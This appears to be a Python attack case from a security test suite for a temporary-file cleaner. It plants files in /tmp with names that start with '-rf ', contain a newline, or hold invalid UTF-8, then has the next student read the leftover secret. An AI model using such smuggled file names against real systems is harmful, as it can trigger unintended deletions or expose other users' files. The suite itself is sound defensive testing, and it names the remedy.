# SPDX-License-Identifier: MIT
"""odd-names.py - files whose names trip the cleaner.

Goal: another student's work.
Means: a name may hold any byte but NUL and the slash. A leading dash is read as an option
(`cd /tmp; rm *`), a newline splits a name in two (`ls | xargs rm`), and bytes that are no UTF-8
stop programs that keep names as text. One file left is enough.
"""

import os

from attack import DONE, attempting, denied, failed, loot


def names(brief):
    name = brief.name.encode()
    return b"-rf " + name, name + b"\nlost", b"\xff\xfe" + name


def run(brief):
    found = False
    attempting()
    for name in names(brief):
        try:
            with open(b"/tmp/" + name, "rb") as file:
                loot(file.read())
            found = True
        except OSError as error:
            why = error
    return DONE if found else denied("open", why)


def victim(brief):
    for folder in b"/tmp", b".":  # where /tmp is out of reach, the student's own folder
        try:
            for name in names(brief):
                with open(folder + b"/" + name, "w") as file:
                    file.write(brief.secret)
            return DONE
        except OSError as error:
            why = error
    return failed("open", why)


ATTACK = {
    "effect": "the next student reads the last one's file",
    "means": "names with a leading dash, a newline, or bytes that are no UTF-8",
    "oracle": "secret:victim",
    "scene": "after-victim",
    "id": "TMPS-02",
    "attack_id": "T1005, CWE-459, CWE-88",
    "remedy": "empty by readdir and unlinkat: names are bytes, and never arguments",
    "run": run,
    "victim": victim,
}
